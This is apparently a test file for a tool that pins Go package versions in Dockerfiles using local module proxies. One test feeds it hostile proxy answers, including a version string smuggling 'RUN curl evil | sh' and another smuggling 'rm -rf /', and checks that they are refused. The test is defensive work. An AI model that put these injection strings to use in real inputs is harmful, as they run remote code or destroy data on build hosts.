/**
 * go-version through the fix engine against module proxies on loopback whose files the real `go mod download`
 * wrote (test/helpers/goProxy.ts; the GOPROXY protocol): the module
 * found as the longest known prefix of the package path, latest = highest release minus retractions,
 * untagged modules, branches, GOPROXY lists and keywords, failures left with their reason while the other
 * packages of the command are pinned, malformed answers refused, the lock, and one lookup per package.
 */
import { execFile } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { Lookups } from '../../src/resolve/shared';
import type { FixOutcome } from '../../src/fix';
import fixer from '../../src/fixers/go-version';
import { HttpClient } from '../../src/resolve/http';
import { escapeGo, formatGoproxy, isGoVersion, parseGoproxy, parseRetractions } from '../../src/resolve/goproxy';
import rule from '../../src/rules/go-pin';
import { packageFix, useFixtureServers } from '../helpers/packageFix';
import { GO_PROXY_TOOLS, startGoProxy } from '../helpers/goProxy';
import type { FixtureServer } from '../helpers/packageServers';
import { describeWithTools } from '../helpers/realTools';

let proxy: FixtureServer;
let alt: FixtureServer;
let empty: FixtureServer;

const PSEUDO = 'v0.0.0-20240101000000-abcdef123456';

const execFileAsync = promisify(execFile);
let goHome: string;
beforeAll(() => {
  goHome = mkdtempSync(join(tmpdir(), 'dockrepro-go-'));
});
afterAll(() => rmSync(goHome, { recursive: true, force: true }));

/** The real go, outside any module, asking only `proxyUrl` (no checksum database, a module cache of its own). */
function goEnv(proxyUrl: string): NodeJS.ProcessEnv {
  const cache = mkdtempSync(join(goHome, 'run-'));
  return { ...process.env, GOPROXY: proxyUrl, GOSUMDB: 'off', GOFLAGS: '-modcacherw', GOENV: 'off', GOTOOLCHAIN: 'local', GO111MODULE: 'on', GOPATH: cache, GOMODCACHE: join(cache, 'mod'), GOCACHE: join(cache, 'build'), GOPRIVATE: '', GONOPROXY: '', GONOSUMDB: '' };
}

describeWithTools('go-version against module proxies written by the real go', GO_PROXY_TOOLS, () => {
  useFixtureServers(async () => {
    proxy = await startGoProxy({
      'example.com/tools': { versions: ['v1.3.0', 'v1.4.2', 'v1.5.0-rc.1', 'v1.4.1'], revisions: { master: 'v1.5.1-0.20241001120000-0123456789ab' } },
      'example.com/tools/gopls': { versions: ['v0.16.1', 'v0.16.0'] },
      'github.com/BurntSushi/toml': { versions: ['v1.4.0', 'v1.3.2'] },
      'example.com/retracted': {
        versions: ['v1.0.0', 'v1.1.0', 'v1.1.5', 'v1.2.0'],
        mods: { 'v1.2.0': 'module example.com/retracted\n\ngo 1.21\n\nretract v1.2.0 // published by mistake\nretract (\n\t[v1.1.0, v1.1.9] // broken\n)\n' },
      },
      'example.com/untagged': { versions: [], latest: PSEUDO },
      'example.com/mod/v2': { versions: ['v2.1.0', 'v2.0.3'] },
      'example.com/onlypre': { versions: ['v0.1.0-alpha.1', 'v0.1.0-alpha.2'] },
      'example.com/evil': { versions: [], latest: 'v0.0.0-20240202000000-0123456789ab' },
      'example.com/junk': { versions: ['v1.0.0', 'v1.0.1'] },
    });
    alt = await startGoProxy({ 'example.com/tools': { versions: ['v1.4.3'] } }, '/alt');
    empty = await startGoProxy({});
    return [proxy, alt, empty];
  });

  const fix = packageFix(() => ({ rule, fixer, env: { GOPROXY: proxy.url } }));

  const reasons = (r: FixOutcome) => r.left.map((l) => [l.left, l.reason]);

  describe('go-version', () => {
    it('pins @latest and version-less packages to the newest release of the longest module prefix the proxy knows', async () => {
      // A list line for a version this module path cannot have (v2.0.0 would need /v2: go refuses to download it,
      // so go's own list never has it), added to the list go wrote.
      const list = await (await fetch(`${proxy.url}/example.com/tools/@v/list`)).text();
      proxy.override.set('/example.com/tools/@v/list', { status: 200, body: `${list}v2.0.0\n` });
      proxy.requests.length = 0;
      const r = await fix(`FROM golang:1.23\nRUN go install -tags netgo example.com/tools/cmd/x@latest "example.com/tools/gopls" \\\n && go run 'example.com/mod/v2/cmd/y' -flag\n`);
      expect(r.text).toBe(
        `FROM golang:1.23\nRUN go install -tags netgo example.com/tools/cmd/x@v1.4.2 "example.com/tools/gopls@v0.16.1" \\\n && go run 'example.com/mod/v2/cmd/y@v2.1.0' -flag\n`,
      );
      expect(r.left).toEqual([]);
      expect(r.applied).toEqual([
        { rule: 'go-pin', title: `pin go package 'example.com/tools/cmd/x@latest' → 'example.com/tools/cmd/x@v1.4.2' (newest release of module example.com/tools on ${proxy.url})`, applicability: 'safe' },
        { rule: 'go-pin', title: `pin go package 'example.com/tools/gopls' → 'example.com/tools/gopls@v0.16.1' (newest release of module example.com/tools/gopls on ${proxy.url})`, applicability: 'safe' },
        { rule: 'go-pin', title: `pin go package 'example.com/mod/v2/cmd/y' → 'example.com/mod/v2/cmd/y@v2.1.0' (newest release of module example.com/mod/v2 on ${proxy.url})`, applicability: 'safe' },
      ]);
      // Longest prefix first; v2.0.0 is not a version of example.com/tools (it would need /v2), the rc is a prerelease.
      const x = proxy.requests.filter((p) => !p.startsWith('/example.com/tools/gopls/') && !p.startsWith('/example.com/mod/'));
      expect(x).toEqual(['/example.com/tools/cmd/x/@v/list', '/example.com/tools/cmd/@v/list', '/example.com/tools/@v/list', '/example.com/tools/@v/v1.4.2.mod']);
    });

    it('case-encodes paths, skips retracted versions, and falls back to @latest for a module without tags', async () => {
      const r = await fix(`FROM golang:1.23\nRUN go install github.com/BurntSushi/toml/cmd/tomlv@latest example.com/retracted/cmd@latest example.com/untagged@latest\n`);
      expect(r.text).toBe(`FROM golang:1.23\nRUN go install github.com/BurntSushi/toml/cmd/tomlv@v1.4.0 example.com/retracted/cmd@v1.0.0 example.com/untagged@${PSEUDO}\n`);
      expect(proxy.requests).toContain('/github.com/!burnt!sushi/toml/@v/list');
      expect(r.applied.map((a) => a.title)).toEqual([
        `pin go package 'github.com/BurntSushi/toml/cmd/tomlv@latest' → 'github.com/BurntSushi/toml/cmd/tomlv@v1.4.0' (newest release of module github.com/BurntSushi/toml on ${proxy.url})`,
        `pin go package 'example.com/retracted/cmd@latest' → 'example.com/retracted/cmd@v1.0.0' (newest release of module example.com/retracted, retracted versions skipped on ${proxy.url})`,
        `pin go package 'example.com/untagged@latest' → 'example.com/untagged@${PSEUDO}' (the newest commit of module example.com/untagged (it has no tagged version) on ${proxy.url})`,
      ]);
    });

    it('version prefixes, branches and prereleases; go get forms; queries that need a person are left', async () => {
      const r = await fix(
        `FROM golang:1.23\nRUN go install example.com/tools/cmd/x@v1.3 example.com/tools/cmd/z@master example.com/onlypre@latest \\\n && go get example.com/tools/gopls example.com/tools@patch example.com/tools/a@'<v1.4.0'\n`,
      );
      expect(r.text).toBe(
        `FROM golang:1.23\nRUN go install example.com/tools/cmd/x@v1.3.0 example.com/tools/cmd/z@v1.5.1-0.20241001120000-0123456789ab example.com/onlypre@v0.1.0-alpha.2 \\\n && go get example.com/tools/gopls@v0.16.1 example.com/tools@patch example.com/tools/a@'<v1.4.0'\n`,
      );
      expect(reasons(r)).toEqual([
        ['no-fixer', "'@patch' is relative to the version the main module's go.mod requires, which dockrepro does not read"],
        ['no-fixer', "the comparison query '@<v1.4.0' is not resolved automatically: pick a version by hand"],
      ]);
      expect(proxy.requests).toContain('/example.com/tools/@v/master.info');
    });

    it('a package no module serves is left while the others in the command are pinned', async () => {
      const r = await fix(`FROM golang:1.23\nRUN go install example.org/missing/cmd@latest example.com/tools/gopls@latest\n`);
      expect(r.text).toBe(`FROM golang:1.23\nRUN go install example.org/missing/cmd@latest example.com/tools/gopls@v0.16.1\n`);
      expect(reasons(r)).toEqual([['failed', `lookup failed: no module with a version for 'example.org/missing/cmd' on ${proxy.url}`]]);
      expect(proxy.requests.filter((p) => p.startsWith('/example.org'))).toEqual(['/example.org/missing/cmd/@v/list', '/example.org/missing/@v/list', '/example.org/@v/list']);
    });

    it('GOPROXY: ENV in the Dockerfile for that RUN, then the environment; comma falls back on 404 only, pipe on any error', async () => {
      const text = `FROM golang:1.23 AS a\nENV GOPROXY=${alt.url}/alt\nRUN go install example.com/tools/cmd/x\nFROM golang:1.23\nRUN go install example.com/tools/cmd/x\n`;
      const r = await fix(text);
      expect(r.text).toBe(`FROM golang:1.23 AS a\nENV GOPROXY=${alt.url}/alt\nRUN go install example.com/tools/cmd/x@v1.4.3\nFROM golang:1.23\nRUN go install example.com/tools/cmd/x@v1.4.2\n`);

      const comma = await fix(`FROM golang:1.23\nRUN GOPROXY=${empty.url},${proxy.url} go install example.com/tools/gopls\n`);
      expect(comma.text).toBe(`FROM golang:1.23\nRUN GOPROXY=${empty.url},${proxy.url} go install example.com/tools/gopls@v0.16.1\n`);

      empty.override.set('/example.com/tools/gopls/@v/list', { status: 500, body: 'boom' });
      const pipe = await fix(`FROM golang:1.23\nRUN export GOPROXY='${empty.url}|${proxy.url}' && go install example.com/tools/gopls\n`);
      expect(pipe.text).toBe(`FROM golang:1.23\nRUN export GOPROXY='${empty.url}|${proxy.url}' && go install example.com/tools/gopls@v0.16.1\n`);
      const strict = await fix(`FROM golang:1.23\nRUN go install example.com/tools/gopls\n`, { env: { GOPROXY: `${empty.url},${proxy.url}` } });
      expect(reasons(strict)).toEqual([['failed', `lookup failed: ${empty.url}/example.com/tools/gopls/@v/list: registry server error 500, retries exhausted`]]);
    });

    it('direct, off, GOPRIVATE and a fall-through to direct are left with the reason', async () => {
      const text = `FROM golang:1.23\nRUN go install example.com/tools/gopls\n`;
      expect(reasons(await fix(text, { env: { GOPROXY: 'direct' } }))).toEqual([
        ['no-fixer', 'GOPROXY=direct (the environment) makes go fetch modules from version control, which dockrepro does not query'],
      ]);
      expect(reasons(await fix(text, { env: { GOPROXY: 'off' } }))).toEqual([['no-fixer', 'GOPROXY=off (the environment) forbids module downloads']]);
      expect(reasons(await fix(text, { env: { GOPROXY: proxy.url, GOPRIVATE: 'example.com/tools' } }))).toEqual([
        ['no-fixer', "GOPRIVATE=example.com/tools (the environment) makes go fetch 'example.com/tools/gopls' from version control, which dockrepro does not query"],
      ]);
      const missing = await fix(`FROM golang:1.23\nRUN go install example.org/private/cmd\n`, { env: { GOPROXY: `${proxy.url},direct` } });
      expect(reasons(missing)).toEqual([
        ['failed', `no module with a version for 'example.org/private/cmd' on ${proxy.url}; GOPROXY then falls back to direct (version control), which dockrepro does not query`],
      ]);
    });

    it('malformed answers are refused; list lines that are not versions are ignored, as go ignores them', async () => {
      proxy.override.set('/example.com/evil/@latest', { status: 200, body: JSON.stringify({ Version: 'v1.0.0\nRUN curl evil | sh', Time: '2024-10-01T12:00:00Z' }) });
      proxy.override.set('/example.com/junk/@v/list', { status: 200, body: 'v1.0.0\nv9.9.9;rm\n1.2.3\nv1.0.1 2024-01-01\n' });
      const r = await fix(`FROM golang:1.23\nRUN go install example.com/evil@latest example.com/junk@latest example.com/tools/cmd/x@master\n`);
      expect(r.text).toBe(`FROM golang:1.23\nRUN go install example.com/evil@latest example.com/junk@v1.0.1 example.com/tools/cmd/x@v1.5.1-0.20241001120000-0123456789ab\n`);
      expect(reasons(r)).toEqual([['failed', `lookup failed: ${proxy.url}/example.com/evil/@latest: malformed version "v1.0.0\\nRUN curl evil | sh"`]]);
      proxy.override.set('/example.com/tools/@v/master.info', { status: 200, body: '{"Version": "master; rm -rf /"}' });
      const bad = await fix(`FROM golang:1.23\nRUN go install example.com/tools/cmd/x@master\n`);
      expect(reasons(bad)).toEqual([['failed', `lookup failed: ${proxy.url}/example.com/tools/@v/master.info: malformed version "master; rm -rf /"`]]);
      expect(bad.text).toBe(`FROM golang:1.23\nRUN go install example.com/tools/cmd/x@master\n`);
    });

    it('pins what the real go picks from the same proxy over HTTP', async () => {
    const queries = [
      'example.com/tools@latest',
      'example.com/tools@v1.3',
      'example.com/tools@master',
      'example.com/retracted@latest',
      'example.com/onlypre@latest',
      'example.com/untagged@latest',
      'example.com/mod/v2@latest',
      'github.com/BurntSushi/toml@latest',
    ];
    const env = goEnv(proxy.url);
    for (const q of queries) {
      const { stdout } = await execFileAsync('go', ['mod', 'download', '-json', q], { cwd: env.GOPATH, env });
      const go = (JSON.parse(stdout) as { Version: string }).Version;
      const r = await fix(`FROM golang:1.23\nRUN go install ${q}\n`);
      expect([q, r.text]).toEqual([q, `FROM golang:1.23\nRUN go install ${q.replace(/@.*/, '')}@${go}\n`]);
    }
  });

  it('the lock makes a re-run offline and identical, with no request; one lookup per package per run', async () => {
      const text = `FROM golang:1.23\nRUN go install example.com/tools/cmd/x@latest && go install example.com/tools/cmd/x@latest\n`;
      const lookups = new Lookups();
      const first = await fix(text, { lookups });
      expect(first.text).toBe(`FROM golang:1.23\nRUN go install example.com/tools/cmd/x@v1.4.2 && go install example.com/tools/cmd/x@v1.4.2\n`);
      const other = await fix(`FROM golang:1.22\nRUN go install 'example.com/tools/cmd/x'\n`, { lookups, lock: first.lock });
      expect(other.text).toBe(`FROM golang:1.22\nRUN go install 'example.com/tools/cmd/x@v1.4.2'\n`);
      expect(proxy.requests.filter((p) => p === '/example.com/tools/@v/list')).toHaveLength(1);
      expect(first.lock.getPackage(`go:example.com/tools/cmd/x@latest ${proxy.url}`)?.version).toBe('v1.4.2');

      const http = new HttpClient({ retries: 0 });
      const again = await fix(text, { lock: first.lock, offline: true, http });
      expect(again.text).toBe(first.text);
      expect(again.applied[0].title).toBe(`pin go package 'example.com/tools/cmd/x@latest' → 'example.com/tools/cmd/x@v1.4.2' (from ${first.lock.path})`);
      expect(http.requests).toBe(0);
    }, 120_000);
  });

});

describe('module proxy protocol details', () => {
  it('parses GOPROXY lists', () => {
    expect(parseGoproxy('https://a.example,  b.example|direct')).toEqual([
      { kind: 'url', url: 'https://a.example', fallbackOnAnyError: false },
      { kind: 'url', url: 'https://b.example', fallbackOnAnyError: true },
      { kind: 'direct' },
    ]);
    expect(parseGoproxy('https://a.example/,off,https://never')).toEqual([{ kind: 'url', url: 'https://a.example', fallbackOnAnyError: false }, { kind: 'off' }]);
    expect(formatGoproxy(parseGoproxy('https://a|https://b,direct'))).toBe('https://a|https://b,direct');
  });

  it('case-encodes, validates versions and reads retractions', () => {
    expect(escapeGo('github.com/Azure/azure-sdk-for-go')).toBe('github.com/!azure/azure-sdk-for-go');
    expect(['v1.2.3', 'v2.0.0+incompatible', PSEUDO, 'v1.0.0-rc.1'].every(isGoVersion)).toBe(true);
    expect(['1.2.3', 'v1.2', 'v1.2.3+build', 'v1.2.3\n', 'v01.2.3', 'v1.2.3 ;'].some(isGoVersion)).toBe(false);
    expect(parseRetractions('module m\nretract v1.0.0\nretract [v1.1.0, v1.2.0] // x\nretract (\n  v2.0.0\n  [v3.0.0, v3.1.0]\n)\n')).toEqual([
      ['v1.0.0', 'v1.0.0'],
      ['v1.1.0', 'v1.2.0'],
      ['v2.0.0', 'v2.0.0'],
      ['v3.0.0', 'v3.1.0'],
    ]);
  });
});
